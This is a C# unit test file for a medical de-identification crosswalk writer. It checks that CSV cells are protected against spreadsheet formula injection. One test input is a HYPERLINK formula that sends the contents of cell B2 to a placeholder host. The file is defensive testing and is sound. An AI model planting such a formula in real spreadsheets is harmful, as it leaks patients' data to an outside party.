using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text;
using Deid.Crosswalk;
using Xunit;

namespace Deid.Tests.Crosswalk
{
    /// <summary>
    /// A crosswalk cell a spreadsheet would run as a formula (an original from a file's header: "=HYPERLINK(...)" as a patient
    /// name) is written after an apostrophe and read back without it; every other value, and every value read back, is
    /// exactly what was written (CSV injection, CWE-1236).
    /// </summary>
    public class SpreadsheetTextTests
    {
        [Theory]
        [InlineData("=HYPERLINK(\"http://example.invalid/?\"&B2,\"open\")")]
        [InlineData("+1+1")]
        [InlineData("-2+3")]
        [InlineData("@SUM(A1:A2)")]
        [InlineData("\t=1")]
        [InlineData("\r=1")]
        public void AFormulaCell_IsWrittenAfterAnApostrophe_AndReadBackAsItWas(string original)
        {
            string text = WriteAndReadText(new CrosswalkEntry("PatientName", original, "ANON"), out var back);
            string line = text.Split('\n')[1];
            // The cell starts with the apostrophe (after the opening quote, where the value is quoted): no spreadsheet formula.
            string cell = line.Substring("PatientName,".Length);
            Assert.StartsWith("'", cell.TrimStart('"'), StringComparison.Ordinal);
            Assert.Equal(original, back.Original);
        }

        [Theory]
        [InlineData("DOE^JOHN")]
        [InlineData("'s-Hertogenbosch")]   // an apostrophe before a letter: no mark, none taken off
        [InlineData("'")]
        [InlineData("O'Brien")]
        [InlineData("1.2.840.10008.1")]
        [InlineData("")]
        public void AnOrdinaryCell_IsWrittenAsItIs(string original)
        {
            string text = WriteAndReadText(new CrosswalkEntry("PatientName", original, "ANON"), out var back);
            Assert.Equal(original, back.Original);
            Assert.DoesNotContain("''", text, StringComparison.Ordinal);
        }

        [Theory]
        [InlineData("'=1")]
        [InlineData("''")]
        [InlineData("'''x")]
        [InlineData("'-")]
        public void ACellThatLooksMarked_IsMarkedAgain_SoItReadsBackAsItWas(string original)
        {
            WriteAndReadText(new CrosswalkEntry("PatientID", original, "=P1"), out var back);
            Assert.Equal(original, back.Original);
            Assert.Equal("=P1", back.Replacement);
        }

        /// <summary>Every value, random over the characters that matter, reads back as written (header, journal and merge use the same rows).</summary>
        [Fact]
        public void RandomValues_RoundTrip()
        {
            var random = new Random(20261207);
            const string alphabet = "'=+-@\t\r\n\",a ^é";
            var rows = new List<CrosswalkEntry>();
            for (int i = 0; i < 2000; i++)
            {
                var sb = new StringBuilder();
                for (int n = random.Next(0, 6); n > 0; n--) sb.Append(alphabet[random.Next(alphabet.Length)]);
                rows.Add(new CrosswalkEntry("F" + i, sb.ToString(), "R" + sb));
            }
            string path = Path.Combine(Path.GetTempPath(), "cw-sheet-" + Guid.NewGuid().ToString("N") + ".csv");
            try
            {
                CrosswalkFile.Write(path, rows);
                var back = CrosswalkFile.Read(path);
                Assert.Equal(rows.Select(r => (r.Field, r.Original, r.Replacement)), back.Select(r => (r.Field, r.Original, r.Replacement)));
                // No cell of the file starts a formula.
                foreach (var cell in Cells(File.ReadAllText(path))) Assert.False(cell.Length > 0 && "=+-@\t\r".IndexOf(cell[0]) >= 0, cell);
            }
            finally
            {
                File.Delete(path);
            }
        }

        private static string WriteAndReadText(CrosswalkEntry row, out CrosswalkEntry back)
        {
            string path = Path.Combine(Path.GetTempPath(), "cw-sheet-" + Guid.NewGuid().ToString("N") + ".csv");
            try
            {
                CrosswalkFile.Write(path, new[] { row });
                back = Assert.Single(CrosswalkFile.Read(path));
                return File.ReadAllText(path);
            }
            finally
            {
                File.Delete(path);
            }
        }

        // The cells of RFC 4180 text as a spreadsheet sees them (quotes removed).
        private static IEnumerable<string> Cells(string text)
        {
            var cell = new StringBuilder();
            bool quoted = false;
            for (int i = 0; i < text.Length; i++)
            {
                char c = text[i];
                if (quoted)
                {
                    if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { cell.Append('"'); i++; }
                    else if (c == '"') quoted = false;
                    else cell.Append(c);
                }
                else if (c == '"') quoted = true;
                else if (c == ',' || c == '\n')
                {
                    yield return cell.ToString();
                    cell.Clear();
                }
                else cell.Append(c);
            }
        }
    }
}
